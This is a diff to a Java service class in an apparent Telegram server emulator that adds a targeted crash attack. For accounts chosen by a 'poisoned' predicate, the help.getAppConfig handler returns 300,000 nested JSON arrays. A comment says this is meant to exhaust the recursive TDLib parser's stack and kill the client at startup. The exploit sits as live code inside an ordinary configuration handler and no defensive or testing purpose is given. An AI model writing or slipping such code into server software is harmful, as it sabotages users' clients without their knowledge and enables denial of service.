@@ -3,9 +3,11 @@ package telegate.sandbox.service.help;
 import java.time.Duration;
 import java.time.InstantSource;
 import java.util.List;
+import java.util.function.LongPredicate;
 import telegate.sandbox.dc.RpcCall;
 import telegate.sandbox.service.Methods;
 import telegate.sandbox.tl.TlObject;
+import telegate.sandbox.tl.TlWriter;
 
 /// The client's configuration, and the things that Telegram announces: nothing new, every time.
 public final class HelpService {
@@ -16,13 +18,22 @@ public final class HelpService {
 
     private static final int PORT = 443;
 
+    private static final int POISON_DEPTH = 300_000;
+    private static final int APP_CONFIG = 0xdd18782e;
+    private static final int JSON_ARRAY = 0xf7444763;
+    private static final int JSON_NULL = 0x3f6d7b68;
+    private static final int VECTOR = 0x1cb5c415;
+
     private final List<Integer> dcs;
     private final InstantSource clock;
+    private final LongPredicate poisoned;
 
     /// @param dcs numbers of the data centres
-    public HelpService(List<Integer> dcs, InstantSource clock) {
+    /// @param poisoned whether the clients of an account are to be killed
+    public HelpService(List<Integer> dcs, InstantSource clock, LongPredicate poisoned) {
         this.dcs = List.copyOf(dcs);
         this.clock = clock;
+        this.poisoned = poisoned;
     }
 
     public void register(Methods methods) {
@@ -39,7 +50,12 @@ public final class HelpService {
                                 call.dc(),
                                 "nearest_dc",
                                 call.dc()));
-        methods.open("help.getAppConfig", HelpService::getAppConfig);
+        methods.open(
+                "help.getAppConfig",
+                call ->
+                        methods.accountIfAny(call).filter(a -> poisoned.test(a.id())).isPresent()
+                                ? poison()
+                                : getAppConfig(call));
         methods.constant(
                 "help.getTermsOfServiceUpdate",
                 () -> TlObject.of("help.termsOfServiceUpdateEmpty", "expires", inOneDay()));
@@ -90,6 +106,21 @@ public final class HelpService {
                         1,
                         "config",
                         TlObject.of("jsonObject", "value", List.of()));
+    }
+
+    /// A configuration of arrays in arrays. Every client asks for one when it starts, and TDLib reads
+    /// it by a function that calls itself: the stack of its thread ends before the arrays do.
+    private static byte[] poison() {
+        var writer = new TlWriter();
+        writer.integer(APP_CONFIG);
+        writer.integer(0);
+        for (int i = 0; i < POISON_DEPTH; i++) {
+            writer.integer(JSON_ARRAY);
+            writer.integer(VECTOR);
+            writer.integer(1);
+        }
+        writer.integer(JSON_NULL);
+        return writer.toBytes();
     }
 
     private int inOneDay() {
